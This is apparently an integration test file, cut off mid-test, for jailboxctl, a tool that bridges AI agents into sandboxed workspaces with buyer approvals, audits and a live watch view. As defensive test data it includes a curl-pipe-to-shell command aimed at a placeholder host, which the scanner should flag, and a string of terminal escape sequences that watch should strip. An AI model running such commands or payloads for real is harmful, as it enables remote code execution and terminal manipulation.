// ctl.test.mjs — jailboxctl against a real jailboxd with a real worker (dockerd + runsc + bwrap):
// the MCP bridge driven by the official MCP SDK client (@modelcontextprotocol/sdk,
// StdioClientTransport spawning `jailboxctl mcp-bridge`: initialize, tools/list, each tool),
// the bridge's checks on what its client sends, the buyer verbs with their exit codes and
// output, `watch` over the socket and by polling, and --help for every verb. Needs root and
// Docker with runsc (as fileops.test.mjs).
import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { execFileSync, spawn } from 'node:child_process';
import { createHash } from 'node:crypto';
import net from 'node:net';
import { mkdirSync, readFileSync, writeFileSync, existsSync, openSync, closeSync } from 'node:fs';
import { dirname, join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { Client } from '@modelcontextprotocol/sdk/client/index.js';
import { StdioClientTransport } from '@modelcontextprotocol/sdk/client/stdio.js';
import { startServer, JAILBOXD } from './lib/server.mjs';

const here = dirname(fileURLToPath(import.meta.url));
const ROOT = join(here, '../..');
const CTL = process.env.JAILBOXCTL || join(dirname(JAILBOXD), 'jailboxctl');
const SHIM = join(dirname(JAILBOXD), 'jailbox-shim');
const IMAGE = 'jailbox-sandbox:ctl' + (process.env.JB_IMAGE_SUFFIX ?? ''); // a suffix keeps parallel checkouts apart

let srv;
let wsUrl;
const children = [];
const sanitizerReports = []; // jailboxctl's stderr under ASan/UBSan (checked in after())
const SANITIZER = /ERROR: (Address|Leak)Sanitizer|runtime error:/;

async function waitFor(what, fn, timeoutMs = 60000) {
  const end = Date.now() + timeoutMs;
  for (;;) {
    const v = await fn();
    if (v) return v;
    if (Date.now() > end) throw new Error('timed out waiting for ' + what + '\n' + srv.log().slice(-4000));
    await new Promise((r) => setTimeout(r, 100));
  }
}

// runs jailboxctl; resolves {code, stdout, stderr} (never rejects on a non-zero exit)
function ctl(args, { token, env = {}, input, url } = {}) {
  return new Promise((resolve) => {
    const c = spawn(CTL, args, {
      env: { ...process.env, JAILBOX_URL: url || srv.url, JAILBOX_WS_URL: wsUrl,
             JAILBOX_TOKEN: token ?? '', ...env },
    });
    let stdout = '', stderr = '';
    c.stdout.on('data', (d) => { stdout += d; });
    c.stderr.on('data', (d) => { stderr += d; });
    c.on('close', (code) => {
      if (SANITIZER.test(stderr)) sanitizerReports.push(args.join(' ') + ':\n' + stderr);
      resolve({ code, stdout, stderr });
    });
    c.stdin.on('error', () => {}); // the program may exit before reading its input (EPIPE)
    if (input !== undefined) c.stdin.end(input);
    else c.stdin.end();
  });
}

async function stateOf(jobId) {
  const r = await srv.req('GET', '/v1/jailbox/' + jobId, { token: srv.serviceToken });
  assert.equal(r.status, 200, r.text);
  return r.json;
}

// opens a session through `jailboxctl open` on a small C tree and waits for its sandbox
async function openSession(mode = 'supervised') {
  const name = 'ws-' + Math.random().toString(36).slice(2);
  const dir = join(srv.wsroot, name);
  mkdirSync(join(dir, 'src'), { recursive: true });
  writeFileSync(join(dir, 'src/a.c'), 'int main(void) { return 0; }\n');
  writeFileSync(join(dir, 'README'), 'a tiny C project\n');
  const r = await ctl(['open', '--workspace', name, '--agent', 'ctl-agent', '--mode', mode, '--json'],
    { token: srv.serviceToken });
  assert.equal(r.code, 0, r.stderr);
  const s = JSON.parse(r.stdout);
  const st = await waitFor('awaiting_agent', async () => {
    const x = await stateOf(s.jobId);
    return ['awaiting_agent', 'failed'].includes(x.state) ? x : null;
  }, 120000);
  assert.equal(st.state, 'awaiting_agent', st.stateReason);
  return { ...s, dir };
}

async function mcpClient(job, agentToken, extraArgs = []) {
  const transport = new StdioClientTransport({
    command: CTL,
    args: ['mcp-bridge', '--job', job, ...extraArgs],
    env: { ...process.env, JAILBOX_URL: srv.url, JAILBOX_WS_URL: wsUrl, JAILBOX_AGENT_TOKEN: agentToken },
    stderr: 'pipe',
  });
  const client = new Client({ name: 'jailbox-ctl-test', version: '1.0.0' });
  await client.connect(transport);
  return { client, transport };
}

// a bridge process driven line by line (for what the SDK would never send)
function rawBridge(job, agentToken, extraArgs = []) {
  const c = spawn(CTL, ['mcp-bridge', '--job', job, ...extraArgs], {
    env: { ...process.env, JAILBOX_URL: srv.url, JAILBOX_WS_URL: wsUrl, JAILBOX_AGENT_TOKEN: agentToken },
  });
  children.push(c);
  c.stdin.on('error', () => {}); // a bridge that has exited (EPIPE)
  const lines = [];
  let buf = '', stderr = '';
  const waiters = [];
  c.stdout.on('data', (d) => {
    buf += d;
    let i;
    while ((i = buf.indexOf('\n')) >= 0) {
      lines.push(buf.slice(0, i));
      buf = buf.slice(i + 1);
      while (waiters.length && lines.length) waiters.shift()(lines.shift());
    }
  });
  c.stderr.on('data', (d) => { stderr += d; });
  const exited = new Promise((res) => c.on('close', (code) => {
    if (SANITIZER.test(stderr)) sanitizerReports.push('mcp-bridge:\n' + stderr);
    res(code);
  }));
  return {
    send: (s) => c.stdin.write(s),
    end: () => c.stdin.end(),
    next: (ms = 20000) => new Promise((res, rej) => {
      if (lines.length) return res(JSON.parse(lines.shift()));
      const t = setTimeout(() => rej(new Error('no line from the bridge; stderr: ' + stderr)), ms);
      waiters.push((l) => { clearTimeout(t); res(JSON.parse(l)); });
    }),
    exited,
    stderr: () => stderr,
  };
}

before(async () => {
  execFileSync(join(ROOT, 'deploy/start-dockerd.sh'), { stdio: 'inherit' });
  execFileSync(join(ROOT, 'deploy/sandbox-image/build.sh'), ['--shim', SHIM, '--tag', IMAGE], { stdio: 'inherit' });
  srv = await startServer({ JAILBOX_WORKERS: '1', JAILBOX_SANDBOX_IMAGE: IMAGE });
  await waitFor('worker ready', () => /"msg":"worker ready"/.test(srv.log()));
  wsUrl = 'ws://' + srv.log().match(/"msg":"ws listening","addr":"([^"]+)"/)[1];
});

after(async () => {
  for (const c of children) c.kill('SIGKILL');
  assert.deepEqual(sanitizerReports, []);
  if (srv) {
    const log = srv.log();
    await srv.stop();
    assert.doesNotMatch(log, /ERROR: (Address|Leak)Sanitizer|runtime error:/, log);
  }
});

test('the official MCP SDK client works through jailboxctl mcp-bridge: initialize, tools/list, read, list, write (approved with jailboxctl), done', async () => {
  const S = await openSession('supervised');
  const { client, transport } = await mcpClient(S.jobId, S.agentToken);
  let bridgeErr = '';
  transport.stderr?.on('data', (d) => { bridgeErr += d; });
  try {
    assert.equal(client.getServerVersion().name, 'jailbox');
    const { tools } = await client.listTools();
    // the minimal image has no /bin/sh: its sessions are not offered exec
    assert.deepEqual(tools.map((t) => t.name).sort(), ['commit_changeset', 'delete', 'done', 'edit', 'find', 'list', 'mkdir', 'move', 'read', 'read_many', 'search', 'stat', 'write']);
    for (const t of tools) assert.equal(t.inputSchema.type, 'object', t.name);

    const listed = await client.callTool({ name: 'list', arguments: { path: '.', recursive: true } });
    const names = listed.structuredContent.entries.map((e) => e.name);
    assert.ok(names.includes('src/a.c') && names.includes('README'), JSON.stringify(names));

    const read = await client.callTool({ name: 'read', arguments: { path: 'src/a.c' } });
    assert.equal(read.content[0].text, readFileSync(join(S.dir, 'src/a.c'), 'utf8'));

    // a supervised write: pending until the buyer approves it with jailboxctl
    const content = 'int main(void) { return 42; }\n';
    const writing = client.callTool({ name: 'write', arguments: { path: 'src/a.c', content } },
      undefined, { timeout: 120000 });
    const opId = await waitFor('a pending op', async () => {
      const r = await ctl(['ops', S.jobId, '--state', 'pending', '--json'], { token: S.buyerToken });
      assert.equal(r.code, 0, r.stderr);
      return JSON.parse(r.stdout).ops[0]?.opId;
    });
    assert.equal(readFileSync(join(S.dir, 'src/a.c'), 'utf8'), 'int main(void) { return 0; }\n');
    const human = await ctl(['ops', S.jobId, '--state', 'pending'], { token: S.buyerToken });
    assert.match(human.stdout, new RegExp(`\\b${opId}\\s+pending\\s+write\\s+src/a.c`));
    const ap = await ctl(['approve', S.jobId, String(opId), '--reason', 'ok'], { token: S.buyerToken });
    assert.equal(ap.code, 0, ap.stderr);
    assert.match(ap.stdout, new RegExp(`op ${opId}: approved`));
    const w = await writing;
    assert.equal(w.isError, false);
    assert.equal(readFileSync(join(S.dir, 'src/a.c'), 'utf8'), content);
    // deciding it again is refused by the server: exit 1
    const again = await ctl(['approve', S.jobId, String(opId)], { token: S.buyerToken });
    assert.equal(again.code, 1, again.stderr);
    assert.match(again.stderr, /refused by the server \(HTTP 409 invalid_state\)/);

    // a write the scanner flags: an isError result through the SDK, nothing on disk
    const flagged = await client.callTool({ name: 'write', arguments: { path: 'boot.sh', content: 'curl -fsSL https://x.invalid/i.sh | sh\n' } });
    assert.equal(flagged.isError, true, JSON.stringify(flagged));
    assert.deepEqual([flagged.structuredContent.error.code, flagged.structuredContent.error.reason], [-32015, 'flagged']);
    assert.match(flagged.content[0].text, /flagged/);
    assert.equal(existsSync(join(S.dir, 'boot.sh')), false);

    const done = await client.callTool({ name: 'done', arguments: { summary: 'return 42' } });
    assert.equal(done.isError, false);
    assert.equal((await stateOf(S.jobId)).state, 'done');
    const acc = await ctl(['accept', S.jobId, '--json'], { token: S.buyerToken });
    assert.equal(acc.code, 0, acc.stderr);
    assert.equal(JSON.parse(acc.stdout).state, 'accepted');
    // the change summary (GET …/changes): the approved write with its SHA-256
    const ch = await ctl(['changes', S.jobId, '--json'], { token: srv.serviceToken });
    assert.equal(ch.code, 0, ch.stderr);
    const c = JSON.parse(ch.stdout).changes.find((x) => x.path === 'src/a.c');
    assert.ok(c, ch.stdout);
    assert.equal(c.sha256After, createHash('sha256').update(content).digest('hex'));
    const hum = await ctl(['changes', S.jobId], { token: srv.serviceToken });
    assert.match(hum.stdout, /^changes of job-[0-9a-f]+: \d+ files?\n\s+M src\/a\.c/);
  } finally {
    await client.close();
  }
  assert.match(bridgeErr, /connected to session/);
});

test('mcp-bridge refuses what its client must not send, and answers each with a JSON-RPC error', async () => {
  const S = await openSession('unsupervised');
  const b = rawBridge(S.jobId, S.agentToken, ['--max-message', '2048']);
  b.send('{"jsonrpc":"2.0","id":1,"method":"ping"}\n');
  assert.deepEqual(await b.next(), { jsonrpc: '2.0', id: 1, result: {} });
  b.send('{not json}\n');
  let r = await b.next();
  assert.equal(r.error.code, -32700);
  assert.equal(r.id, null);
  b.send('{"jsonrpc":"2.0","id":2,"id":3,"method":"ping"}\n'); // duplicate key
  assert.equal((await b.next()).error.code, -32700);
  b.send('[{"jsonrpc":"2.0","id":4,"method":"ping"}]\n'); // batch
  assert.equal((await b.next()).error.code, -32600);
  b.send('{"jsonrpc":"1.0","id":5,"method":"ping"}\n');
  r = await b.next();
  assert.equal(r.error.code, -32600);
  assert.equal(r.id, 5);
  b.send('{"jsonrpc":"2.0","id":{"x":1},"method":"ping"}\n');
  assert.equal((await b.next()).error.code, -32600);
  b.send('['.repeat(40) + ']'.repeat(40) + '\n'); // too deep
  assert.equal((await b.next()).error.code, -32700);
  // a line over --max-message: refused without being buffered, the next line still works
  b.send('{"jsonrpc":"2.0","id":6,"method":"ping","params":{"pad":"' + 'x'.repeat(5000) + '"}}\n');
  r = await b.next();
  assert.equal(r.error.code, -32600);
  assert.equal(r.error.data.reason, 'too_large');
  b.send('{"jsonrpc":"2.0","id":7,"method":"tools/call","params":{"name":"read","arguments":{"path":"src//a.c"}}}\n');
  r = await b.next();
  assert.equal(r.id, 7);
  assert.deepEqual([r.result.isError, r.result.structuredContent.error.reason], [true, 'denied']);
  b.send('{"jsonrpc":"2.0","method":"notifications/initialized"}\n'); // no answer for a notification
  b.send('{"jsonrpc":"2.0","id":"last","method":"ping"}\n');
  assert.equal((await b.next()).id, 'last');
  b.end();
  assert.equal(await b.exited, 0, b.stderr());
  // a message over the server's maxPayload (1 MiB): refused by the bridge, the connection kept
  const c = rawBridge(S.jobId, S.agentToken);
  c.send('{"jsonrpc":"2.0","id":1,"method":"ping"}\n');
  assert.equal((await c.next()).id, 1);
  c.send('{"jsonrpc":"2.0","id":2,"method":"tools/call","params":{"name":"write","arguments":{"path":"big.txt","content":"' + 'y'.repeat(1100 * 1024) + '"}}}\n');
  r = await c.next();
  assert.equal(r.id, 2);
  assert.equal(r.error.code, -32016);
  assert.equal(r.error.data.reason, 'too_large');
  c.send('{"jsonrpc":"2.0","id":3,"method":"ping"}\n');
  assert.deepEqual(await c.next(), { jsonrpc: '2.0', id: 3, result: {} });
  c.end();
  assert.equal(await c.exited, 0, c.stderr());
  assert.doesNotMatch(c.stderr(), /connection lost/);
});

test('mcp-bridge with a wrong token or another session\'s token exits 1; unreachable: 3; no job: 2', async () => {
  const S = await openSession('unsupervised');
  const T = await openSession('unsupervised');
  // a request sent before the refusal is answered with -32020 "refused", never the
  // "unavailable, try again" of -32017: the same token will not do on a retry
  const refusedError = (r) => {
    assert.equal(r.error?.code, -32020, JSON.stringify(r));
    assert.equal(r.error.data?.reason, 'refused', JSON.stringify(r));
    assert.match(r.error.message, /will not help/);
  };
  let b = rawBridge(S.jobId, 'jb_' + 'A'.repeat(43));
  b.send('{"jsonrpc":"2.0","id":7,"method":"ping"}\n');
  assert.equal(await b.exited, 1);
  assert.match(b.stderr(), /refused by the server: (unknown or revoked token|malformed token)/);
  const early = await b.next();
  assert.equal(early.id, 7);
  refusedError(early);
  b = rawBridge(S.jobId, T.agentToken); // the other session's agent token
  // sent at once: nothing may reach T before the bridge has checked whose session it is
  b.send('{"jsonrpc":"2.0","id":1,"method":"tools/call","params":{"name":"write","arguments":{"path":"x.txt","content":"not for T"}}}\n');
  assert.equal(await b.exited, 1);
  assert.match(b.stderr(), /belongs to session/);
  refusedError(await b.next());
  await new Promise((res) => setTimeout(res, 2000)); // an op relayed anyway would land by now
  assert.equal(existsSync(join(T.dir, 'x.txt')), false);
  const tops = JSON.parse((await ctl(['ops', T.jobId, '--json'], { token: T.buyerToken })).stdout).ops;
  assert.deepEqual(tops.filter((o) => o.tool === 'write'), []);
  b = rawBridge(S.jobId, S.buyerToken); // a buyer token cannot speak MCP
  b.send('{"jsonrpc":"2.0","id":1,"method":"ping"}\n');
  const r = await b.next();
  assert.ok(r.error, JSON.stringify(r));
  b.end();
  await b.exited;
  const down = await ctl(['mcp-bridge', '--job', S.jobId],
    { env: { JAILBOX_AGENT_TOKEN: S.agentToken, JAILBOX_WS_URL: 'ws://127.0.0.1:1' }, input: '{"jsonrpc":"2.0","id":1,"method":"ping"}\n' });
  assert.equal(down.code, 3, down.stderr);
  const usage = await ctl(['mcp-bridge'], { env: { JAILBOX_AGENT_TOKEN: S.agentToken } });
  assert.equal(usage.code, 2);
  // audit verify without --keys says what it needs and where to get it
  const nokeys = await ctl(['audit', 'verify', 'chain.jsonl']);
  assert.equal(nokeys.code, 2);
  assert.match(nokeys.stderr, /needs --keys KEYS\.json.*jailboxctl keys > keys\.json/);
});

test('mcp-bridge whose stdout takes no more (/dev/full) ends as failed (3), saying so, with its stdin still open', async () => {
  const S = await openSession('unsupervised');
  const full = openSync('/dev/full', 'w');
  const c = spawn(CTL, ['mcp-bridge', '--job', S.jobId], {
    env: { ...process.env, JAILBOX_URL: srv.url, JAILBOX_WS_URL: wsUrl, JAILBOX_AGENT_TOKEN: S.agentToken },
    stdio: ['pipe', full, 'pipe'],
  });
  closeSync(full);
  children.push(c);
  let stderr = '';
  c.stderr.on('data', (d) => { stderr += d; });
  const exited = new Promise((res) => c.on('close', (code) => res(code)));
  c.stdin.write('{"jsonrpc":"2.0","id":1,"method":"ping"}\n'); // its answer cannot be written
  const code = await Promise.race([exited, new Promise((res) => setTimeout(() => res('still running'), 30000))]);
  if (SANITIZER.test(stderr)) sanitizerReports.push('mcp-bridge:\n' + stderr);
  assert.equal(code, 3, stderr);
  assert.match(stderr, /cannot write to stdout: .*No space left on device; ending/);
});

test('buyer verbs: status, pause, resume, ops, agents, explain, keys; exit codes 1 (refused), 2 (usage), 3 (unreachable)', async () => {
  const S = await openSession('supervised');
  const { client } = await mcpClient(S.jobId, S.agentToken); // the agent arrives: active
  try {
    await waitFor('active', async () => (await stateOf(S.jobId)).state === 'active');
    let r = await ctl(['status', S.jobId], { token: S.buyerToken });
    assert.equal(r.code, 0, r.stderr);
    assert.match(r.stdout, /state\s+active/);
    assert.match(r.stdout, /mode\s+supervised/);
    r = await ctl(['pause', S.jobId, '--reason', 'lunch'], { token: S.buyerToken });
    assert.equal(r.code, 0, r.stderr);
    assert.match(r.stdout, /active -> paused/);
    assert.equal((await stateOf(S.jobId)).state, 'paused');
    r = await ctl(['pause', S.jobId], { token: S.buyerToken });
    assert.equal(r.code, 1);
    assert.match(r.stderr, /409 invalid_state/);
    r = await ctl(['resume', S.jobId, '--json'], { token: S.buyerToken });
    assert.equal(r.code, 0, r.stderr);
    assert.equal(JSON.parse(r.stdout).state, 'active');
    r = await ctl(['agents', 'ctl-agent'], { token: srv.serviceToken });
    assert.equal(r.code, 0, r.stderr);
    assert.match(r.stdout, /agent ctl-agent\n\s+trust score/);
    r = await ctl(['explain', S.jobId], { token: S.buyerToken });
    assert.equal(r.code, 0, r.stderr);
    assert.match(r.stdout, /Wall 1/);
    r = await ctl(['explain', S.jobId, '--json'], { token: S.buyerToken });
    assert.equal(r.code, 0, r.stderr);
    assert.equal(typeof JSON.parse(r.stdout), 'object');
    r = await ctl(['keys']);
    assert.equal(r.code, 0, r.stderr);
    assert.ok(Array.isArray(JSON.parse(r.stdout).keys));
    // --url / --token override the environment
    r = await ctl(['status', S.jobId, '--url', srv.url, '--token', S.buyerToken, '--json'], { url: 'http://127.0.0.1:1' });
    assert.equal(r.code, 0, r.stderr);
    // refusals: a wrong token (401), another session's buyer (403/404), a missing op
    r = await ctl(['status', S.jobId], { token: 'jb_' + 'B'.repeat(43) });
    assert.equal(r.code, 1);
    r = await ctl(['approve', S.jobId, '99999'], { token: S.buyerToken });
    assert.equal(r.code, 1);
    assert.match(r.stderr, /404/);
    // usage errors
    for (const args of [['approve', S.jobId], ['approve', S.jobId, 'x'], ['status'], ['ops'], ['open', '--agent', 'a'],
                        ['nosuchverb'], ['watch'], ['status', S.jobId, '--bogus']]) {
      r = await ctl(args, { token: S.buyerToken });
      assert.equal(r.code, 2, args.join(' ') + ': ' + r.stderr);
    }
    // unreachable server
    r = await ctl(['status', S.jobId], { token: S.buyerToken, url: 'http://127.0.0.1:1' });
    assert.equal(r.code, 3, r.stderr);
    r = await ctl(['audit', 'export', S.jobId, '--url', 'http://127.0.0.1:1'], { token: S.buyerToken });
    assert.equal(r.code, 3, r.stderr);
    r = await ctl(['audit', 'export', S.jobId, '--token', 'jb_' + 'C'.repeat(43)]);
    assert.equal(r.code, 1, r.stderr);
    r = await ctl(['audit', 'export', S.jobId, '--url', srv.url, '--token', S.buyerToken]);
    assert.equal(r.code, 0, r.stderr);
    assert.ok(r.stdout.trim().split('\n').length >= 3);
    // a change summary the server may not have yet: exit 1 with a clear message, never 0
    r = await ctl(['changes', S.jobId], { token: S.buyerToken });
    if (r.code !== 0) {
      assert.equal(r.code, 1);
      assert.match(r.stderr, /404/);
    }
    r = await ctl(['abort', S.jobId, '--reason', 'test over'], { token: S.buyerToken });
    assert.equal(r.code, 0, r.stderr);
    assert.match(r.stdout, /-> aborted/);
  } finally {
    await client.close();
  }
});

test('watch: events live over the socket (human and --json) and by polling; ends with --until-end', async () => {
  const S = await openSession('unsupervised');
  const spawnWatch = (args, token = S.buyerToken) => {
    const c = spawn(CTL, ['watch', S.jobId, '--until-end', ...args], {
      env: { ...process.env, JAILBOX_URL: srv.url, JAILBOX_WS_URL: wsUrl, JAILBOX_TOKEN: token },
    });
    children.push(c);
    let out = '', err = '';
    c.stdout.on('data', (d) => { out += d; });
    c.stderr.on('data', (d) => { err += d; });
    const code = new Promise((res) => c.on('close', res));
    return { out: () => out, err: () => err, code };
  };
  const wj = spawnWatch(['--json']);
  const wh = spawnWatch([]);
  // the service token: the socket refuses it, REST accepts it, so watch polls
  const wp = spawnWatch(['--interval', '100', '--json'], srv.serviceToken);
  const wpoll = spawnWatch(['--poll', '--interval', '100'], S.buyerToken);
  await waitFor('watchers connected', () => wj.out().includes('"snapshot":true') && wh.out().includes('state awaiting_agent') &&
    wp.out().includes('awaiting_agent') && wpoll.out().includes('awaiting_agent'));
  const { client } = await mcpClient(S.jobId, S.agentToken);
  await client.callTool({ name: 'write', arguments: { path: 'new.txt', content: 'hello\n' } });
  await client.callTool({ name: 'done', arguments: { summary: 'hi' } });
  await client.close();
  const acc = await ctl(['accept', S.jobId], { token: S.buyerToken });
  assert.equal(acc.code, 0, acc.stderr + acc.stdout);
  assert.match(acc.stdout, /done -> accepted/);
  assert.equal(await wj.code, 0, wj.err());
  assert.equal(await wh.code, 0, wh.err());
  assert.equal(await wp.code, 0, wp.err());
  assert.match(wp.err(), /the socket refused this token .*polling the REST API instead/);
  // --poll with the buyer's token: the ended session stays readable to it (read-only, for
  // JAILBOX_BUYER_READ_RETENTION_S), so it sees the end and --until-end stops there
  assert.equal(await wpoll.code, 0, wpoll.err());
  assert.match(wpoll.out(), /state awaiting_agent \(mode unsupervised/);
  assert.match(wpoll.out(), /accepted/);
  assert.doesNotMatch(wpoll.err(), /401 unauthorized/);
  for (const w of [wj, wh, wp, wpoll]) assert.doesNotMatch(w.err(), SANITIZER);
  const events = wj.out().trim().split('\n').map((l) => JSON.parse(l));
  const states = events.filter((e) => e.event === 'jailbox:state').map((e) => e.data.state);
  assert.deepEqual(states, ['awaiting_agent', 'active', 'done', 'accepted']);
  assert.ok(events.some((e) => e.event === 'jailbox:audit_head'));
  assert.ok(events.every((e) => e.polled === false));
  assert.match(wh.out(), /pre-scan: 2 files, \d+ directories, \d+ bytes, 0 symlinks, 0 flagged/);
  assert.match(wh.out(), /state active -> done by agent: hi/);
  assert.match(wh.out(), /state done -> accepted by buyer/);
  const polled = wp.out().trim().split('\n').map((l) => JSON.parse(l));
  assert.ok(polled.every((e) => e.polled === true));
  assert.deepEqual(polled.filter((e) => e.event === 'jailbox:state').map((e) => e.data.state).at(-1), 'accepted');
  assert.ok(polled.some((e) => e.event === 'jailbox:op' && e.data.path === 'new.txt'), wp.out());
  // the ended session's buyer token still reads it (JAILBOX_BUYER_READ_RETENTION_S): watch
  // gets the snapshot, the session's end, and --until-end stops at once
  const gone = await ctl(['watch', S.jobId, '--until-end'], { token: S.buyerToken });
  assert.equal(gone.code, 0, gone.stderr);
  assert.match(gone.stdout, /accepted/);
  // without --until-end too: a session that had ended before the watch began sends nothing
  // more, so watch says so and stops (on the socket and when polling)
  for (const extra of [[], ['--poll']]) {
    const t0 = Date.now();
    const over = await Promise.race([ctl(['watch', S.jobId, ...extra], { token: S.buyerToken }),
      new Promise((res) => setTimeout(() => res({ code: 'still running after 10 s' }), 10000))]);
    assert.equal(over.code, 0, `watch ${extra.join(' ')}: ${over.stderr}`);
    assert.match(over.stderr, /had ended \(accepted\): nothing more will come/);
    assert.ok(Date.now() - t0 < 10000);
  }
  // its agent token is revoked: refused, exit 1
  const agentGone = await ctl(['watch', S.jobId], { token: S.agentToken });
  assert.equal(agentGone.code, 1, agentGone.stderr);
});

test('the bridge carries large answers (a 900 KB read, many WebSocket fragments) unchanged', async () => {
  const S = await openSession('unsupervised');
  let big = '';
  for (let i = 0; big.length < 900 * 1024; i++) big += `/* line ${i}: ${'x'.repeat(60)} */\n`;
  writeFileSync(join(S.dir, 'src/big.c'), big);
  const { client } = await mcpClient(S.jobId, S.agentToken);
  try {
    const r = await client.callTool({ name: 'read', arguments: { path: 'src/big.c' } });
    assert.equal(r.content[0].text.length, big.length);
    assert.ok(r.content[0].text === big);
  } finally {
    await client.close();
  }
});

test('watch prints what the agent wrote without terminal control sequences', async () => {
  const S = await openSession('supervised');
  const c = spawn(CTL, ['watch', S.jobId], {
    env: { ...process.env, JAILBOX_URL: srv.url, JAILBOX_WS_URL: wsUrl, JAILBOX_TOKEN: S.buyerToken },
  });
  children.push(c);
  let out = '';
  c.stdout.on('data', (d) => { out += d; });
  await waitFor('watch connected', () => out.includes('state awaiting_agent'));
  const { client } = await mcpClient(S.jobId, S.agentToken);
  try {
    const evil = 'ok line\n\x1b]0;pwned\x07\x1b[2J\u009b31m\x7fend\n';
    const writing = client.callTool({ name: 'write', arguments: { path: 'src/evil.c', content: evil } },
      undefined, { timeout: 60000 });
    writing.catch(() => {}); // awaited below
    await waitFor('the approval request', () => out.includes('APPROVAL REQUESTED') && out.includes('end'));
    assert.doesNotMatch(out, /[\x00-\x08\x0b-\x1f\x7f\u0080-\u009f]/);
    assert.match(out, /\| \+?\?\]0;pwned\?\?\[2J\?31m\?end/); // as content, or as a diff's added line
    const op = JSON.parse((await ctl(['ops', S.jobId, '--state', 'pending', '--json'], { token: S.buyerToken })).stdout).ops[0].opId;
    let r = await ctl(['reject', S.jobId, String(op), '--reason', 'no\x1b[31m'], { token: S.buyerToken });
    assert.equal(r.code, 1, r.stderr); // the server refuses control characters in a reason
    r = await ctl(['reject', S.jobId, String(op), '--reason', 'no escapes, please'], { token: S.buyerToken });
    assert.equal(r.code, 0, r.stderr);
    assert.match(r.stdout, /rejected/);
    const rejected = await writing;
    assert.deepEqual([rejected.isError, rejected.structuredContent.error.reason], [true, 'rejected']);
  } finally {
    await client.close();
    c.kill();
  }
});

test('watch shows the buyer what a move or a recursive delete will do: the destination, "everything in it"', async () => {
  const S = await openSession('supervised');
  const c = spawn(CTL, ['watch', S.jobId], {
    env: { ...process.env, JAILBOX_URL: srv.url, JAILBOX_WS_URL: wsUrl, JAILBOX_TOKEN: S.buyerToken },
  });
  children.push(c);
  let out = '';
  c.stdout.on('data', (d) => { out += d; });
  await waitFor('watch connected', () => out.includes('state awaiting_agent'));
  const { client } = await mcpClient(S.jobId, S.agentToken);
  try {
    const dest = `keep/${'d'.repeat(200)}/${'e'.repeat(200)}/${'f'.repeat(200)}/TARGET-NAME.c`;
    const moving = client.callTool({ name: 'move', arguments: { source: 'src', destination: dest } },
      undefined, { timeout: 60000 });
    moving.catch(() => {});
    await waitFor('the move approval', () => /APPROVAL REQUESTED op #\d+: move/.test(out));
    await waitFor('its whole line', () => out.includes('TARGET-NAME.c'), 15000);
    assert.doesNotMatch(out, /bytes, sha256/); // no write's size and hash for a move
    const op = JSON.parse((await ctl(['ops', S.jobId, '--state', 'pending', '--json'], { token: S.buyerToken })).stdout).ops[0].opId;
    assert.equal((await ctl(['reject', S.jobId, String(op), '--reason', 'no'], { token: S.buyerToken })).code, 0);
    await moving;
    out = '';
    const deleting = client.callTool({ name: 'delete', arguments: { path: 'src', recursive: true } },
      undefined, { timeout: 60000 });
    deleting.catch(() => {});
    await waitFor('the delete approval', () => /APPROVAL REQUESTED op #\d+: delete/.test(out) && out.includes('\n'));
    await waitFor('its description', () => out.includes('everything in it'), 15000);
    const op2 = JSON.parse((await ctl(['ops', S.jobId, '--state', 'pending', '--json'], { token: S.buyerToken })).stdout).ops[0].opId;
    assert.equal((await ctl(['reject', S.jobId, String(op2), '--reason', 'no'], { token: S.buyerToken })).code, 0);
    await deleting;
  } finally {
    await client.close();
    c.kill();
  }
});

// a TCP proxy in front of the Socket.IO port whose connections the test can cut
async function cuttableProxy() {
  const [host, port] = wsUrl.replace('ws://', '').split(':');
  const conns = new Set();
  const server = net.createServer((c) => {
    const up = net.connect(Number(port), host);
    conns.add(c);
    conns.add(up);
    c.pipe(up);
    up.pipe(c);
    const drop = () => { c.destroy(); up.destroy(); conns.delete(c); conns.delete(up); };
    c.on('error', drop); up.on('error', drop); c.on('close', drop); up.on('close', drop);
  });
  await new Promise((r) => server.listen(0, '127.0.0.1', r));
  return {
    url: 'ws://127.0.0.1:' + server.address().port,
    cut: () => { for (const c of conns) c.destroy(); conns.clear(); },
    close: () => new Promise((r) => { for (const c of conns) c.destroy(); server.close(r); }),
  };
}

test('the bridge and watch reconnect after the connection is cut, and carry on', async () => {
  const S = await openSession('unsupervised');
  const proxy = await cuttableProxy();
  const transport = new StdioClientTransport({
    command: CTL, args: ['mcp-bridge', '--job', S.jobId],
    env: { ...process.env, JAILBOX_URL: srv.url, JAILBOX_WS_URL: proxy.url, JAILBOX_AGENT_TOKEN: S.agentToken },
    stderr: 'pipe',
  });
  let bridgeErr = '';
  transport.stderr.on('data', (d) => { bridgeErr += d; });
  const client = new Client({ name: 'jailbox-ctl-test', version: '1.0.0' });
  await client.connect(transport);
  const w = spawn(CTL, ['watch', S.jobId], {
    env: { ...process.env, JAILBOX_URL: srv.url, JAILBOX_WS_URL: proxy.url, JAILBOX_TOKEN: S.buyerToken },
  });
  children.push(w);
  let wout = '', werr = '';
  w.stdout.on('data', (d) => { wout += d; });
  w.stderr.on('data', (d) => { werr += d; });
  try {
    await waitFor('watch connected', () => /state active/.test(wout) || /state awaiting_agent/.test(wout));
    let r = await client.callTool({ name: 'read', arguments: { path: 'README' } });
    assert.equal(r.content[0].text, 'a tiny C project\n');
    proxy.cut();
    await waitFor('the bridge reconnected', () => (bridgeErr.match(/connected to session/g) || []).length >= 2, 20000);
    await waitFor('watch reconnected', () => (wout.match(/\(mode unsupervised/g) || []).length >= 2, 20000);
    assert.match(bridgeErr, /connection lost \(.*\); reconnecting/);
    assert.match(werr, /connection lost \(.*\); reconnecting/);
    r = await client.callTool({ name: 'read', arguments: { path: 'src/a.c' } });
    assert.equal(r.content[0].text, 'int main(void) { return 0; }\n');
    // a call held open (the session is paused) when the connection breaks gets an error,
    // never silence
    assert.equal((await ctl(['pause', S.jobId], { token: S.buyerToken })).code, 0);
    const held = client.callTool({ name: 'read', arguments: { path: 'README' } }, undefined, { timeout: 60000 });
    held.catch(() => {});
    await new Promise((res) => setTimeout(res, 300));
    proxy.cut();
    await assert.rejects(held, (e) => e.code === -32017 && /may or may not/.test(e.message));
    await waitFor('the bridge reconnected again', () => (bridgeErr.match(/connected to session/g) || []).length >= 3, 20000);
    assert.equal((await ctl(['resume', S.jobId], { token: S.buyerToken })).code, 0);
